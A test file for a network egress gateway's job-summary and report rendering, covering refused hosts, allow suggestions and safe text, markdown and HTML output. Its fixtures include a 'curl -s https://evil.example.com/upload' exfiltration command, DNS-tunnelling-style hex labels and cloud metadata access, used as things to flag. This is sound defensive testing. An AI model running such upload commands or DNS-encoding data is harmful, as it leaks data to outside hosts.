import * as fc from 'fast-check'
import { readFileSync } from 'node:fs'
import { stripVTControlCharacters } from 'node:util'
import t from 'tap'
import type { FlowEvent } from '../../../gateway/record/event.ts'
import { JobSummary } from '../../../gateway/record/job-summary.ts'
import { redactEvent } from '../../../gateway/record/redact.ts'
import { layOut } from '../../../gateway/record/report/columns.ts'
import { renderReport } from '../../../gateway/record/report/render.ts'
import { terminalFor } from '../../../gateway/record/report/terminal.ts'
import { renderBrief } from '../../../gateway/record/report/text.ts'
import { bytes, duration, yamlItem } from '../../../gateway/record/report/words.ts'
import type { LogState, Summary } from '../../../gateway/record/summary-shape.ts'
import { parse } from 'yaml'
import { flowEvents } from './arbitrary-event.ts'
import { sampleJob } from './sample-job.ts'

const sealed: LogState = { state: 'sealed', lines: 9, lost: 0, head: 'ab'.repeat(32) }
const dumb = terminalFor({ columns: 100 }, {})

function summarise(events: readonly FlowEvent[], log: LogState = sealed): Summary {
  const summary = new JobSummary('build')
  for (const event of events) summary.write(redactEvent(event))
  return summary.summary(log)
}

const sample = summarise(sampleJob())

const asker = { pid: 1, exe: '/usr/bin/node', command: 'node ask.js', uid: 0, parents: [] }

function refusedName(host: string, facts: Partial<FlowEvent> = {}): FlowEvent {
  return {
    layer: 'dns',
    startedAt: 0,
    host,
    qtype: 'A',
    rcode: 'NXDOMAIN',
    verdict: 'deny',
    reason: 'no-rule',
    ...facts,
  }
}

function refusedRow(host: string): object | undefined {
  return sample.refused.find(refused => refused.host === host)
}

await t.test('summary(): tells what was reached, by whom', async t => {
  t.match(sample.reached[0], {
    host: 'npm.acme.example',
    ports: [443],
    requests: 3,
    lookups: 1,
    methods: { GET: 3 },
    bytesReceived: 4_500_000,
    processes: ['node npm install'],
  })
})

await t.test('summary(): tells what was refused and why, with the line that would allow it', async t => {
  t.match(refusedRow('api.example.net'), {
    reason: 'method',
    example: 'POST /gists',
    allow: ['POST https://api.example.net/gists'],
  })
  t.match(refusedRow('evil.example.com'), { reason: 'no-rule', lookups: 1, allow: ['evil.example.com'] })
  t.match(refusedRow('198.51.100.9'), {
    reason: 'address-literal',
    allow: [],
    processes: ['curl -s https://evil.example.com/upload ← dash ← node'],
  })
})

await t.test('summary(): metadata services are a finding, and no line is offered for them', async t => {
  t.match(sample.findings, [{ kind: 'metadata-access', host: '169.254.169.254' }])
  t.same(sample.refused.find(row => row.host === '169.254.169.254')?.allow, [])
})

await t.test('summary(): a client that refuses our certificates is a finding with a tls:// line', async t => {
  t.match(sample.findings[1], {
    kind: 'client-refused-ca',
    host: 'pinned.example.org',
    allow: 'tls://pinned.example.org',
  })
  t.ok(sample.suggestions.includes('tls://pinned.example.org'))
})

await t.test('summary(): a flood of names under one domain is one row without a suggestion', async t => {
  const rows = sample.refused.filter(row => row.host.endsWith('tunnel.example'))
  t.match(rows, [{ host: '**.tunnel.example', names: 60, lookups: 60, allow: [] }])
  t.equal(rows.length, 1)
})

await t.test('summary(): names below one that look like data are one row', async t => {
  const asked = [
    '6162636465666768696a.x.example.com',
    '3031323334353637.x.example.com',
    'mzxw6ytboi5dinzt2v4q.x.example.com',
  ]
  const { refused } = summarise(asked.map(host => refusedName(host, { process: asker })))
  t.match(refused, [{ host: '**.x.example.com', names: 3, lookups: 3, allow: [], processes: ['node ask.js'] }])
  t.equal(refused.length, 1)
})

await t.test('summary(): two of them, or names of words, are rows of their own', async t => {
  const words = ['productionresultssa10', 'productionresultssa11', 'productionresultssa12']
  const hosts = ['6162636465666768696a', '3031323334353637', ...words].map(label => `${label}.x.example.com`)
  t.equal(summarise(hosts.map(host => refusedName(host))).refused.length, hosts.length)
})

await t.test('summary(): nobody is led to open what a thief would use', async t => {
  const [exfiltration] = parse(
    readFileSync(new URL('../../../gateway/policy/presets/known-exfiltration.yaml', import.meta.url), 'utf8'),
  ).forbid
  for (const host of [exfiltration.to, '6162636465666768696a.example.com', 'vm'])
    t.same(summarise([refusedName(host)]).suggestions, [], host)
  t.same(summarise([refusedName('shop.example.com')]).suggestions, ['shop.example.com'])
})

await t.test(
  'renderBrief(): tells each destination once, and no more of an audit than what block mode would refuse',
  async t => {
    const flow = { host: 'shop.example.com', port: 443, startedAt: 0, verdict: 'observe', reason: 'no-rule' } as const
    const audit = summarise([
      { ...flow, layer: 'dns' },
      { ...flow, layer: 'http', method: 'GET', path: '/', inspected: true, bytesSent: 100 },
    ])
    const brief = renderBrief(audit, dumb)
    t.equal(brief.split('shop.example.com').length, 2, brief)
    t.match(brief, '1 host reached, 1 destination that block mode would refuse')
    t.match(brief, 'Would be refused in block mode')
    t.notMatch(brief, /^Reached|^To allow/m)
  },
)

await t.test('renderBrief(): of many rows, counts the rest', async t => {
  const many = summarise(Array.from({ length: 20 }, (_, at) => refusedName(`host-${at}.example${at}.test`)))
  t.match(renderBrief(many, dumb), /Refused\n(?:.+\n)+ {2}and 12 more/)
})

for (const width of [60, 80]) {
  await t.test(`renderBrief(): fits a terminal of ${width} columns`, async t => {
    const audit = sampleJob().map(event =>
      event.verdict === undefined ? event : { ...event, verdict: 'observe' as const },
    )
    // The hash of the log is longer than a narrow terminal, and so are policy lines, which nobody may cut.
    const wide = (text: string) =>
      text.split('\n').filter(line => line.length > width && !/^Its head|^The log|^To allow|^ {2}- /.test(line))
    for (const events of [sampleJob(), audit])
      t.same(wide(renderBrief(summarise(events), terminalFor({ columns: width }, {}))), [])
  })
}

await t.test('summary(): what was carried unread is told', async t => {
  t.match(sample.unseen, [{ host: 'git.example.org', port: 22, protocol: 'tcp', connections: 1, bytesSent: 9_000 }])
})

await t.test('summary(): failures are no refusals', async t => {
  t.match(sample.failures, [{ error: 'UPSTREAM_TIMEOUT', host: 'slow.example.org', count: 1 }])
})

await t.test('summary(): a line for repeats of a question counts them all', async t => {
  const { totals } = summarise([
    { layer: 'dns', startedAt: 0, host: 'a.test', verdict: 'allow', reason: 'rule', packets: 40 },
  ])
  t.equal(totals.lookups, 40)
})

await t.test('summary(): of nothing, says nothing', async t => {
  for (const render of Object.values(renderReport)) t.ok(render(summarise([]), dumb).length > 0)
  t.match(renderReport.text(summarise([]), dumb), '0 hosts reached, nothing refused')
})

for (const width of [40, 60, 100, 120]) {
  await t.test(`renderText(): no line of a table is wider than a terminal of ${width} columns`, async t => {
    const rows = sample.reached.map(row => [`  ${row.host}`, String(row.requests), row.processes.join(' ')])
    for (const line of layOut(rows, width)) t.ok(line.length <= width, line)
  })
}

await t.test('renderText(): colours only where it may', async t => {
  const tty = { isTTY: true, columns: 80 }
  const plain = renderReport.text(sample, terminalFor({ columns: 80 }, {}))
  const colourful = renderReport.text(sample, terminalFor(tty, {}))
  t.notMatch(plain, '\u001b')
  t.match(colourful, '\u001b[')
  t.equal(stripVTControlCharacters(colourful), plain)
  t.equal(renderReport.text(sample, terminalFor(tty, { NO_COLOR: '1' })), plain)
  t.equal(renderReport.text(sample, terminalFor(tty, { TERM: 'dumb' })), plain)
  t.equal(renderReport.text(sample, terminalFor({ columns: 80 }, { FORCE_COLOR: '1' })), colourful)
})

await t.test('every format: says when the log is broken', async t => {
  const broken = summarise([], { state: 'broken', lines: 3, lost: 0, line: 2, message: 'line 2 was changed' })
  for (const format of ['text', 'markdown', 'html'] as const) t.match(renderReport[format](broken, dumb), 'BROKEN')
  t.match(JSON.parse(renderReport.json(broken, dumb)), { log: { state: 'broken', line: 2 } })
})

const events = fc.array(flowEvents, { maxLength: 12 })

await t.test('renderText(): hostile text cannot move the cursor or begin a line (P1)', async t => {
  fc.assert(
    fc.property(events, job =>
      /^[^\p{Cc}\p{Cf}\u2028\u2029]*$/u.test(renderReport.text(summarise(job), dumb).replaceAll('\n', '')),
    ),
  )
  t.pass('held for every generated job')
})

await t.test('renderHtml(): hostile text is text: every tag is one of ours (P1)', async t => {
  const ours =
    /<(?:!doctype html|\/?(?:html|head|title|style|body|main|header|section|footer|p|h1|h2|b|dl|div|dd|dt|ul|li|table|thead|tbody|tr|th|td|code|span|pre|br)(?: \/)?(?: (?:lang|class)="[a-z ]*")?|meta [^<>]*)>/g
  fc.assert(
    fc.property(
      events,
      job =>
        !/[<>]/.test(
          renderReport
            .html(summarise(job), dumb)
            .replace(/<style>[^]*<\/style>/, '')
            .replace(ours, ''),
        ),
    ),
  )
  t.pass('held for every generated job')
})

/** A line without its code spans and escaped characters, as CommonMark reads it; undefined when a code span stays open. */
function outsideOfCode(line: string): string | undefined {
  let rest = line
  let outside = ''
  for (;;) {
    const next = /\\[!-/:-@[-`{-~]|`+/.exec(rest)
    if (next === null) return outside + rest
    outside += rest.slice(0, next.index)
    rest = rest.slice(next.index + next[0].length)
    if (next[0].startsWith('\\')) continue
    const close = [...rest.matchAll(/`+/g)].find(([run]) => run.length === next[0].length)
    if (close === undefined) return undefined
    rest = rest.slice(close.index + close[0].length)
  }
}

function isTame(line: string): boolean {
  const outside = outsideOfCode(line)
  return outside !== undefined && !/[<>[\]~]|\*(?!\*)(?<!\*\*)/.test(outside)
}

await t.test(
  'renderMarkdown(): hostile text stands in code spans or escaped, and ends no table, cell or fence (P1)',
  async t => {
    fc.assert(
      fc.property(events, job => {
        const outside = renderReport.markdown(summarise(job), dumb).replace(/^```yaml\n[^]*?^```$/m, '')
        const lines = outside.split('\n')
        const tame = lines.every(
          line => isTame(line) && /^$|^#{2,3} [A-Z]|^\| |^- |^and |^job |^The log|^To allow|^\*\*/.test(line),
        )
        const widths = lines.map((line, at) =>
          line.startsWith('|') && lines[at - 1]?.startsWith('|') === true
            ? cells(line) === cells(lines[at - 1] ?? '')
            : true,
        )
        if (!tame || !widths.every(Boolean)) throw new Error(lines.find(line => !isTame(line)) ?? outside)
      }),
      { numRuns: 500 },
    )
    t.pass('held for every generated job')
  },
)

function cells(line: string): number {
  return line.replace(/\\[!-/:-@[-`{-~]/g, '').split('|').length
}

await t.test('yamlItem(): reads back as the line it was, whatever it holds', async t => {
  const lines = fc.oneof(
    fc.string(),
    fc.constantFrom('GET,HEAD https://a.test/x', '**.a.test', 'tcp://a.test:22', 'https://a.test/#x', '- a', 'a: b'),
    fc.constantFrom('/s:', 'GET https:', '10', '1.5', '1e3', '0x1f', 'true', 'Null'),
  )
  fc.assert(
    fc.property(lines, line => {
      t.same(parse(yamlItem(line)), [line])
    }),
  )
})

await t.test('words: are short', async t => {
  t.same([0, 999, 1_000, 1_500_000, 123_456_789].map(bytes), ['0 B', '999 B', '1.0 kB', '1.5 MB', '123 MB'])
  t.same([5, 12_400, 185_000, 7_440_000].map(duration), ['5 ms', '12.4 s', '3 min 5 s', '2 h 4 min'])
})
